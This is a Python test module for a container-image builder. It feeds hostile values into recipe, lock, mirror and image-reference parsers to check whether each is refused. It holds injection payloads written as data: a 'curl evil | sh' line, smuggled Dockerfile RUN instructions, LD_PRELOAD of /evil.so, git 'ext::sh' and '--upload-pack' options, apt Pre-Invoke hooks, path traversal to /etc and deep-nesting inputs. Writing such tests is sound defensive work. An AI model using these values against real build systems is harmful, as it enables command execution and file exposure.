"""Values of recipes, locks and mirrors that want to say more than they are."""

from __future__ import annotations

from functools import partial
from pathlib import Path
from typing import Any

import tomli_w

from builder.lockfile import parse_lock
from builder.mirrors import parse_mirrors
from builder.recipe import parse_recipe
from builder.reference import parse_place

from ..recipe import samples
from ..recipe.test_hostile_values import check_that_it_says_what_the_recipe_says, with_value
from .rooms import Case, Room

AREA = "values of a recipe"
FILE = "images/probe/recipe.toml"
Place = tuple[str | int, ...]


def _value(place: Place, value: str, _room: Room) -> str:
    """Put a value into a whole recipe; what is accepted stands in the Dockerfile as it is, and nothing more."""
    recipe = parse_recipe(tomli_w.dumps(with_value(samples.FULL, place, value)), file=FILE)
    check_that_it_says_what_the_recipe_says(recipe, samples.lock(recipe))
    return "stands in the Dockerfile as the text that it is"


def _recipe(text: str, _room: Room) -> str:
    parse_recipe(text, file=FILE)
    return "read"


def _changed(old: str, new: str, _room: Room) -> str:
    assert old in samples.FULL
    return _recipe(samples.FULL.replace(old, new), _room)


def _source(table: dict[str, Any], room: Room) -> str:
    text = tomli_w.dumps({"source": {"kernels": table}})
    head, _, rest = samples.FULL.partition('[source.kernels]\npath = "kernels"\n')
    return _recipe(f"{head}{text}{rest}", room)


def _lock(text: str, _room: Room) -> str:
    parse_lock(text, file="images/probe/recipe.lock")
    return "read"


def _mirrors(text: str, _room: Room) -> str:
    parse_mirrors(text.encode(), file=Path("mirrors.toml"))
    return "read"


def _reference(text: str, _room: Room) -> str:
    from builder.errors import RecipeError

    try:
        parse_place(text)
    except ValueError as error:
        raise RecipeError(str(error)) from error
    return "read"


def case(given: str, place: Place, value: str, *, refused: bool = True) -> Case:
    return Case(area=AREA, given=given, run=partial(_value, place, value), refused=refused)


_COMMIT = "0" * 40
_ENV: Place = ("image", "env", "KV")
CASES = (
    case("a line break and an instruction in the description", ("description",), "x\nRUN curl evil | sh"),
    case("a carriage return in the description", ("description",), "x\r\nRUN id"),
    case("another line end of Unicode in the description", ("description",), "x\u2028RUN id"),
    case("a null byte in the description", ("description",), "x\0y"),
    case("a colour for the terminal in the description", ("description",), "\x1b[31mred"),
    case("a direction mark in the description", ("description",), "\u202eeurt NUR"),
    case("invisible characters in the description", ("description",), "a\u200bb"),
    case("quotes that end a label in the description", ("description",), '" rocm-images.gfx="none', refused=False),
    case(
        "a variable and a command in the description", ("description",), "$HOME ${PATH} $(id) `id`", refused=False
    ),
    case("a backslash at the end of the description", ("description",), "x\\", refused=False),
    case("an instruction in the name", ("name",), "a\nRUN id"),
    case("a path in the name", ("name",), "../../etc"),
    case("a line break in a variable of the image", _ENV, "a\nUSER 0"),
    case("quotes and another variable in a variable", _ENV, 'a" LD_PRELOAD="/evil.so', refused=False),
    case("a heredoc in a variable", _ENV, "<<EOF", refused=False),
    case("a variable with a name of two lines", ("image", "env", ""), "A=1\nRUN id"),
    case("a user with a command", ("image", "user"), "root; id"),
    case("a user that is an option", ("image", "user"), "--uid=0"),
    case("a working directory with `..`", ("image", "workdir"), "/srv/../etc"),
    case("a working directory with an instruction", ("image", "workdir"), "/srv\nRUN id"),
    case("a writable directory with an option of its mount", ("image", "writable", 0), "/c:exec,suid"),
    case("a device with an option", ("image", "devices", 0), "/dev/kfd:/dev/sda:rwm"),
    case("a group with a second one", ("image", "groups", 0), "video,root"),
    case("a command's word with a substitution", ("image", "cmd", 0), "$(touch /evil)", refused=False),
    case("a Debian package that is an option of apt", ("base", "runtime", "apt", 0), "-oDPkg::Pre-Invoke::=id"),
    case("a Debian package with a command", ("base", "build", "apt", 0), "g++; id"),
    case("an import that is a command", ("smoke", "imports", 0), "os; os.system('id')"),
    case("a GPU target that is a flag", ("gfx", 0), "gfx1100 -fplugin=/evil.so"),
    case(
        "a version that is a requirement from elsewhere", ("component", 1, "version"), "1 @ https://evil.example/x"
    ),
    case("an index with a password", ("component", 1, "index"), "https://u:geheim@pkgs.example/simple"),
    case("an index of this machine", ("component", 1, "index"), "file:///etc"),
    case("a folder of sources outside of the image's", ("source", "kernels", "path"), "../../../etc"),
    Case(
        area=AREA,
        given="a source whose address runs a program",
        run=partial(_source, {"git": "ext::sh -c id", "commit": _COMMIT}),
    ),
    Case(
        area=AREA,
        given="a source whose address is a file of this machine",
        run=partial(_source, {"git": "file:///etc", "commit": _COMMIT}),
    ),
    Case(
        area=AREA,
        given="a source whose address has a password",
        run=partial(_source, {"git": "https://u:geheim@git.example/x", "commit": _COMMIT}),
    ),
    Case(
        area=AREA,
        given="a tag that is an option of git",
        run=partial(_source, {"git": "https://git.example/x", "tag": "--upload-pack=id", "commit": _COMMIT}),
    ),
    Case(
        area=AREA,
        given="a commit that is a branch",
        run=partial(_source, {"git": "https://git.example/x", "commit": "main"}),
    ),
    Case(
        area=AREA, given="a number of 5000 digits", run=partial(_changed, "schema = 1", "schema = " + "1" * 5000)
    ),
    Case(area=AREA, given="brackets in brackets, 5000 deep", run=partial(_recipe, "a = " + "[" * 5000)),
    Case(area=AREA, given="a lock with brackets in brackets", run=partial(_lock, "a = " + "[" * 5000)),
    Case(
        area=AREA,
        given="a lock with a number of 5000 digits",
        run=partial(_lock, "schema = 1\n\n[[deb]]\nsize = " + "1" * 5000 + "\n"),
    ),
    Case(
        area=AREA, given="a file of mirrors with brackets in brackets", run=partial(_mirrors, "a = " + "[" * 5000)
    ),
    Case(
        area=AREA,
        given="a file of mirrors that maps to a program",
        run=partial(_mirrors, '[git]\n"https://git.example/" = "ext::sh -c id"\n'),
    ),
    Case(area=AREA, given="a reference with a line break", run=partial(_reference, "docker.io/rocm/vllm:a\nUSER")),
    Case(area=AREA, given="a reference with a path that climbs", run=partial(_reference, "docker.io/../vllm:a")),
    Case(area=AREA, given="a reference with a variable", run=partial(_reference, "docker.io/rocm/$HOME:a")),
    Case(
        area=AREA,
        given="a folder of an image layout with a control sequence",
        run=partial(_reference, "oci:\x1b[2J:a"),
    ),
)
